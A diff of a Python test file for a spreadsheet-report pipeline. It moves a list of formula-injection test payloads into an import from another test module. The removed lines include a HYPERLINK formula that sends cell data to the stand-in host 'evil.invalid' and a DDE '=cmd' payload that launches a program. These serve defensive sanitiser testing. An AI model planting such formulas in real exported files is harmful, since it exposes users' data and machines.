@@ -25,19 +25,9 @@ from pipelines.report.safety import (
 from pipelines.report.table_sheet import write_table_sheet
 from tests.corpus.hostile import unsafe_parts, workbook_parts
 from tests.report.frames import report_config
+from tests.report.test_injection import PAYLOADS as FORMULA_PAYLOADS
 
-PAYLOADS = [
-    "=1+2",
-    "+1+2",
-    "-1+2",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    "#N/A",
-    "#DIV/0!",
-]
+PAYLOADS = [*FORMULA_PAYLOADS, "#N/A", "#DIV/0!"]  # and text Excel would read as an error
 
 
 def test_clean_text_expr_strips_control_characters_and_keeps_line_breaks() -> None:
